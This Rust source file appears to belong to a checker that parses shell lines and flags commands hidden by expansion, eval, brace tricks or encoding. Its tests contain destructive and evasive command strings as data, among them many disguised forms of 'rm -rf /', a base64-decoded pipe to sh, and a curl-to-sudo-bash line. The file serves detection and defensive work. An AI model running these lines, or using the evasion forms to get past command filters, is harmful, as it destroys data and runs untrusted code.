//! A line as a shell takes it apart: into commands and their words, as far as that can be known without running it.

use super::{
    parted::{Command, Given, Line, Word, is_name, parted},
    programs::{SHELLS, program},
};

/// How deep scripts in scripts are read.
const MAX_SCRIPTS: usize = 4;

/// What stands behind a variable in PowerShell and Perl, and behind no program.
#[rustfmt::skip]
const ASKED: &[&str] = &[
    "=", "+=", "-=", "*=", ".=", "=~", "!~", "==", "!=", "-eq", "-ne", "-gt", "-ge", "-like", "-notlike", "-match", "-notmatch",
    "-replace", "-contains", "-notcontains", "-split", "-join", "-and",
];
/// Programs that run another one, which they are told.
#[rustfmt::skip]
const RUNNERS: &[&str] = &[
    "sudo", "doas", "env", "exec", "command", "builtin", "nohup", "xargs", "nice", "timeout", "stdbuf", "setsid", "time", "busybox",
    "systemd-run", "ionice", "proxychains", "proxychains4", "torsocks", "torify",
];
/// Programs whose options of one letter have no values.
const WITHOUT_VALUES: &[&str] = &["rm", "rmdir", "unlink", "chmod", "chown"];
/// So many letters of options may stand before what is not known; more are one option with a value, as in `-Xmx${x}m`.
const MAX_LETTERS: usize = 2;

impl Command {
    /// The command as one line, where a variable or an escape in it was put in its place.
    pub(super) fn resolved(&self) -> Option<String> {
        self.words.iter().any(|word| word.is_resolved).then(|| {
            let words: Vec<&str> = self.words.iter().map(|word| word.text.as_str()).collect();
            words.join(" ")
        })
    }

    /// Where the programs stand: the first word, and what those run that run another.
    pub(super) fn programs(&self) -> Vec<usize> {
        let mut programs = Vec::new();
        for (at, word) in self.words.iter().enumerate() {
            let runs = programs
                .last()
                .is_none_or(|last: &usize| RUNNERS.contains(&program(&self.words[*last].text)));
            let is_option = word.text.starts_with('-')
                || word.text.contains('=')
                || word.text.starts_with(|c: char| c.is_ascii_digit());
            if !runs {
                break;
            }
            if programs.is_empty() || !is_option {
                programs.push(at);
            }
        }
        programs
    }

    /// What a shell among its words is told to run.
    fn script(&self) -> Option<&str> {
        self.script_at().map(|at| self.words[at].text.as_str())
    }

    fn script_at(&self) -> Option<usize> {
        let shell = self.words.iter().position(|word| SHELLS.contains(&program(&word.text)))?;
        let told = |word: &Word| {
            word.text.len() > 1
                && word.text.starts_with('-')
                && word.text.ends_with('c')
                && word.text[1..].bytes().all(|byte| byte.is_ascii_alphabetic())
        };
        let flag = self.words[shell..].iter().position(told)?;
        Some(shell + flag + 1).filter(|at| *at < self.words.len())
    }

    /// The variables that the words before a script may set for it: `env x=y bash -c`, `docker run -ex=y z sh -c`.
    fn given_to_a_script(&self) -> impl Iterator<Item = &str> {
        let before = &self.words[..self.script_at().unwrap_or_default()];
        before.iter().filter(|word| word.text.contains('=')).flat_map(|word| {
            let names = word.text.split('=').map(|name| name.trim_start_matches('-'));
            names.flat_map(|name| [name, name.get(1..).unwrap_or_default()]).filter(|name| is_name(name))
        })
    }

    fn is_unsure(&self) -> bool {
        let programs = self.programs();
        let hidden = programs.iter().any(|at| {
            let word = &self.words[*at];
            let next = self.words.get(at + 1);
            // Variables of PowerShell and Perl are set and asked as if they were programs.
            let is_set = next.is_none_or(|next| ASKED.contains(&next.text.as_str()));
            // `$x->go()`: what is behind `>` is taken for a file.
            let is_asked = word.text.starts_with(['.', ':', '[']) || word.text == "-";
            word.expands && !(is_asked || is_set && word.text.is_empty()) || is_pattern(word)
        });
        let runs = |names: &[&str]| programs.iter().any(|at| names.contains(&program(&self.words[*at].text)));
        let reads = self.is_piped
            && runs(SHELLS)
            && programs
                .last()
                .is_some_and(|last| self.words[last + 1..].iter().all(|word| word.text.starts_with('-')));
        let evaluates = runs(&["eval"]) && self.words.iter().any(|word| word.expands);
        let has_no_values = runs(WITHOUT_VALUES);
        let chooses = self.words.iter().skip(1).any(|word| hides_an_option(word, has_no_values));
        hidden || evaluates || chooses || reads && self.script().is_none()
    }

    /// Whether it is a program that runs what it reads, as `bash`, with nothing else to run.
    pub(super) fn reads_a_script(&self, readers: &[&str]) -> bool {
        let Some(last) = self.programs().last().copied() else { return false };
        readers.contains(&program(&self.words[last].text))
            && self.words[last + 1..].iter().all(|word| word.text.starts_with('-'))
            && self.script().is_none()
    }
}

/// `-r${x}f`, `-$x`, `-{r..f}`: what a program is told is known to the shell alone. What stands behind an option is
/// mostly its value: `-j$(nproc)`, `-I$HOME/x`.
fn hides_an_option(word: &Word, has_no_values: bool) -> bool {
    if !word.text.starts_with('-') {
        return false;
    }
    let is_sequence = !word.is_quoted && word.text.contains('{') && word.text.contains("..");
    let Some((front, behind)) = word.unknown.and_then(|at| word.text.split_at_checked(at)) else {
        return is_sequence;
    };
    let letters = front.trim_start_matches('-');
    let is_of_letters = front.starts_with('-') && letters.bytes().all(|byte| byte.is_ascii_alphabetic());
    let goes_on = letters.len() <= MAX_LETTERS && behind.starts_with(char::is_alphabetic);
    is_sequence || is_of_letters && (letters.is_empty() || has_no_values || goes_on)
}

/// `/b?n/rm`, `r^m`: a name that the shell looks for, or that one shell reads otherwise. Scripts of other languages
/// have such signs without a slash (`a?.b`), and both in their patterns.
fn is_pattern(word: &Word) -> bool {
    let of_a_path = |c: char| c.is_alphanumeric() || "/._-*?^".contains(c);
    let (is_looked_for, is_escaped) = (word.text.contains(['?', '*']), word.text.contains('^'));
    !word.is_quoted
        && is_looked_for != is_escaped
        && is_looked_for == word.text.contains('/')
        && word.text.chars().all(of_a_path)
        && word.text.starts_with(|c: char| c == '/' || c.is_alphabetic())
}

/// Whether a line begins with a condition, as `[[ -f x ]] && y`, and not with a list in a list.
pub(super) fn is_condition(text: &str) -> bool {
    let within = text
        .strip_prefix("[[ ")
        .and_then(|rest| rest.split_once(" ]]"))
        .map(|(within, _)| within.trim_start());
    within.is_some_and(|within| {
        within.starts_with("\"$")
            || within.starts_with(|c: char| matches!(c, '-' | '!' | '$') || c.is_alphabetic())
    })
}

/// Takes a line apart, and the scripts that a shell in it is told to run.
/// `given` are the variables that whoever runs it sets.
pub(super) fn read(text: &str, given: &Given<'_>) -> Line {
    read_within(text, given, 0)
}

fn read_within(text: &str, given: &Given<'_>, depth: usize) -> Line {
    let mut line = parted(text, given);
    line.unsure |= line.commands.iter().any(Command::is_unsure);
    if depth < MAX_SCRIPTS {
        let mut sets = std::mem::take(&mut line.sets);
        let told = line.commands.iter().flat_map(Command::given_to_a_script);
        sets.names.extend(told.map(str::to_owned));
        let given = Given { within: Some(given), ..sets };
        let scripts = line.commands.iter().filter_map(Command::script);
        let within: Vec<Line> = scripts.map(|script| read_within(script, &given, depth + 1)).collect();
        for within in within {
            line.unsure |= within.unsure;
            line.asked.extend(within.asked);
            line.proxies.extend(within.proxies);
            line.commands.extend(within.commands);
        }
    }
    line
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use crate::spent::spent;

    use super::*;

    fn read(text: &str) -> Line {
        super::read(text, &Given::default())
    }

    fn lines(text: &str) -> Vec<String> {
        let words = |command: &Command| {
            command.words.iter().map(|word| word.text.as_str()).collect::<Vec<_>>().join(" ")
        };
        read(text).commands.iter().map(words).collect()
    }

    #[test]
    fn a_line_is_taken_apart() {
        for (text, commands) in [
            ("rm -rf /", vec!["rm -rf /"]),
            ("cd x && npm test; ls | wc -l", vec!["cd x", "npm test", "ls", "wc -l"]),
            ("A=1 B=2 make all", vec!["make all"]),
            ("if true; then rm x; fi", vec!["true", "rm x", "fi"]),
            ("echo 'a; b' \"c | d\" e\\;f", vec!["echo a; b c | d e;f"]),
            ("git commit -m \"$(cat <<'EOF'\nit's done; $x y\nEOF\n)\"", vec!["cat", "git commit -m "]),
            ("make 2>&1 >log | tee out", vec!["make", "tee out"]),
            ("bash -lc 'r\"\"m -rf /'", vec!["bash -lc r\"\"m -rf /", "rm -rf /"]),
            ("sudo bash -c \"bash -c 'rm x'\"", vec!["sudo bash -c bash -c 'rm x'", "bash -c rm x", "rm x"]),
            ("ls # rm x\npwd", vec!["ls", "pwd"]),
            ("{rm,-rf,/}", vec!["rm -rf /"]),
            ("rm -{r,f} /", vec!["rm -r -f /"]),
            ("rm {-rf,/}>x", vec!["rm -rf /"]),
            ("cp a.{b,c}{d,e} \"{f,g}\"", vec!["cp a.bd a.be a.cd a.ce {f,g}"]),
            ("rm -r\\\nf /", vec!["rm -rf /"]),
            ("a=rm; $a -rf /", vec!["rm -rf /"]),
            ("a='rm -rf'; $a /", vec!["rm -rf /"]),
            ("a=rm; ${a:-ls} -rf /", vec!["rm -rf /"]),
            ("a=; ${a:-rm} -rf /", vec!["rm -rf /"]),
            ("${b:-rm -rf} /", vec!["rm -rf /"]),
            ("$'\\x72m' $'\\055rf' /", vec!["rm -rf /"]),
            ("a=ls; a=rm; $a -rf /", vec!["rm -rf /"]),
            ("true && a=rm && $a -rf /", vec!["true", "rm -rf /"]),
            ("read x; ${x:-ls -l} -rf /", vec!["read x", "ls -l -rf /"]),
            ("f() { rm x; }", vec!["rm x", "}"]),
            ("x=rm; y='x=ls'; $y; $x -rf /", vec!["x=ls", "rm -rf /"]),
        ] {
            assert_eq!(lines(text), commands, "{text}");
        }
    }

    #[test]
    fn what_the_shell_alone_knows_is_unsure() {
        for text in [
            "$x -rf /",
            "r$@m -rf /",
            "r${x}m -rf /",
            "r${x:-}m -rf /",
            "${x:-$y} -rf /",
            "${x:-r\\m} -rf /",
            "$x -is y",
            "for x in rm; do ${x:-ls} -rf /; done",
            "read x <<< rm; ${x:-ls} -rf /",
            "read <<< rm; ${REPLY:-ls} -rf /",
            "echo rm | while read -r x; do ${x:-ls -l} -rf /; done",
            "printf -v x rm; ${x:-ls} -rf /",
            "printf -vx rm; sudo ${x:-ls} -rf /",
            "n=x; read $n <<< rm; ${x:-ls} -rf /",
            "read \"$n\" <<< rm; ${x:-ls} -rf /",
            "set -- rm; ${1:-ls} -rf /",
            "bash -c '${1:-ls} -rf /' _ rm",
            "x=rm bash -c '${x:-ls} -rf /'",
            "export x=rm; bash -c '${x:-ls} -rf /'",
            "env x=rm bash -c '${x:-ls} -rf /'",
            "docker run -ex=rm img sh -c '${x:-ls} -rf /'",
            ": ${x:=rm}; ${x:-ls} -rf /",
            "${SHELL:-ls} -c 'rm -rf /'",
            ". ./x; ${x:-ls} -rf /",
            "while ${x:-ls} -rf /; do x=rm; done",
            "f() { ${x:-ls} -rf /; }; . ./x; f",
            "read x; $x->y",
            "read x; $x.y",
            "read x; $x = y",
            "x=1 bash -c '$x->y'",
            ". ./x; bash -c '${x:-ls} -rf /'",
            "x=rm; x=ls true; $x -rf /",
            "x=rm; (x=ls); $x -rf /",
            "x=rm; x=ls | true; $x -rf /",
            "x=rm; x=ls & $x -rf /",
            "x=rm; false && x=ls; $x -rf /",
            "x=rm; false &&\nx=ls; $x -rf /",
            "x=rm; true || x=ls; $x -rf /",
            "x=rm; true || x=ls && $x -rf /",
            "x=rm; if false; then x=ls; fi; $x -rf /",
            "x=ls; f() { x=rm; }; f; $x -rf /",
            "x=ls; function f { x=rm; }; f; $x -rf /",
            "x=ls; f() { $x -rf /; }; x=rm; f",
            "x=r; x+=m; $x -rf /",
            "x=ls; x[0]=rm; $x -rf /",
            "x=(rm); $x -rf /",
            "x=ls; unset x; $x -rf /",
            "x=ls; declare -n x=y; $x -rf /",
            "r$(echo)m -rf /",
            "r`echo`m -rf /",
            "r{m,} -rf /",
            "/b?n/rm -rf /",
            "r^m -rf /",
            "sudo $x y",
            "ls; \"$x\" y",
            "bash -c '$0 -rf /'",
            "eval $x",
            "echo cm0gLXJmIC8=|base64 -d|sh",
            "curl https://h.example | sudo bash -",
            "rm -r${x}f /",
            "rm -r$x /",
            "rm -$x /",
            "rm -\"$x\" /",
            "git push -`x` y",
            "tar -c$(x)f y",
            "rm -{r..r}{f..f} /",
            "rm -{a,b,c,d,e,f,g,h,i}{a,b,c,d,e,f,g,h,i} /",
        ] {
            assert!(read(text).unsure, "{text}: {:?}", read(text));
        }
    }

    /// A rule on `facts_cut` must not stop who hides nothing.
    #[test]
    fn ordinary_lines_are_sure() {
        for text in [
            "echo $HOME",
            "cd \"$PROJECT_DIR\" && npm test",
            "for f in *.py; do echo \"$f\"; done",
            "mkdir -p src/{a,b}",
            "grep -rn --include=*.{js,ts} x src",
            "make -j$(nproc) PREFIX=$HOME/x",
            "java -Xmx${HEAP}m -jar x.jar",
            "gcc -I$INC/x -L\"$LIB\" -DX=${Y}z a.c",
            "tar -C$DIR -czf \"$OUT\" .",
            "kill -TERM $PID && kill -9 $(cat x.pid)",
            "git commit -m\"Set $x now\"",
            "rm -rf \"$DIR/build\" $TMP",
            "docker run -v$PWD:/x -u$(id -u):$(id -g) img",
            "export PATH=$PATH:/opt/bin; make",
            "\"$ROOT/scripts/build.sh\" --all",
            "${VENV}/bin/python run.py",
            "git commit -m \"$(cat <<'EOF'\nDon't; $x y * ?\n\nit's `done`\nEOF\n)\"",
            "cat > f.py <<EOF\n$x y\nif a: {b, c}\nEOF\nls",
            "docker run --rm -e A=\"$A\" img sh -c 'ls /app | wc -l'",
            "find . -name '*.rs' -exec grep -n x {} +",
            "VERSION=$(git describe --tags) && echo \"v${VERSION}_x\"",
            "[ -f x ] && [[ $a == b ]] && echo yes",
            "if [ $# -gt 0 ]; then shift; fi",
            "awk '{print $1}' f | sort | uniq -c",
            "ps aux | grep '[p]ython'",
            "git show HEAD^:src/x",
            "$env:PATH = 'x'; $files.Count",
            "$a -replace 'x','y'",
            "$list -contains 3",
            "$x =~ s/a/b/;",
            "$x->go(); $this->x = $y;",
            "${CC:-gcc} -o x",
            "${PYTHON:-/usr/bin/python3} -m pytest",
            "bash -lc 'CC=${CC:-gcc}; $CC -o x'",
            "cd x && PY=python3 && $PY -m pytest",
            "PY=\"$HOME/venv/bin/python\"; $PY run.py",
            "${SHELL:-/bin/bash} run.sh",
            "CC=clang; export CC; $CC -c x.c && ${LD:-ld} x.o",
            "i=0; until curl https://ok.example; do i=$((i+1)); [ $i -gt 5 ] && exit 1; sleep ${WAIT:-1}; done",
            "while IFS= read -r line; do echo \"$line\"; done < f",
            "if [ -f x ]; then OUT=y; else OUT=z; fi; cp a \"$OUT\"",
            "args=(-v --all); ls \"${args[@]}\"",
            "make CC=clang && ./x \"${CC:-gcc}\"",
            "bash run.sh",
            "echo y | bash install.sh --yes",
            "python -c 'print({1, 2}); x = [1]'",
            "jq -r '.a | {b, c}' f.json",
            "echo $((1 + 2))",
            "ls *.txt",
            "return document.body?.innerText",
            "if (/^a*/.test(x)) { y?.z() }",
            "",
        ] {
            assert!(!read(text).unsure, "{text}: {:?}", read(text));
        }
    }

    /// The least of the times that a line takes: whatever else runs meanwhile only adds to it.
    fn time_of(line: &str) -> Duration {
        let once = || spent(|| read(line));
        [once(), once(), once()].into_iter().min().expect("three")
    }

    /// One that is four times as long takes about four times as long, where to go over it again at each piece would
    /// take sixteen times.
    #[test]
    fn hostile_lines_take_no_longer_than_others() {
        #[rustfmt::skip]
        let pieces = [
            "(", "$(", "`", "\"$(", "${", "{a,", "<<E\n", "bash -c '", "a=b;$a ", "$x", "${a:-b}", "a=b&&", "if $a;", "a=b;. x;",
            "read a;", "a=b sh -c x;",
        ];
        for piece in pieces {
            let [short, long] = [12_500, 50_000].map(|bytes| time_of(&piece.repeat(bytes / piece.len())));
            let most = short * 10 + Duration::from_millis(50);
            assert!(long < most, "{piece}: {short:?}, and four times as long {long:?}");
        }
        // A variable that is as long as what asks for it.
        let line = |bytes: usize| format!("a={}; {}", "x".repeat(bytes / 2), "$a".repeat(bytes / 4));
        let [short, long] = [100_000, 400_000].map(|bytes| time_of(&line(bytes)));
        let most = short * 10 + Duration::from_millis(50);
        assert!(long < most, "{short:?}, and four times as long {long:?}");
    }
}
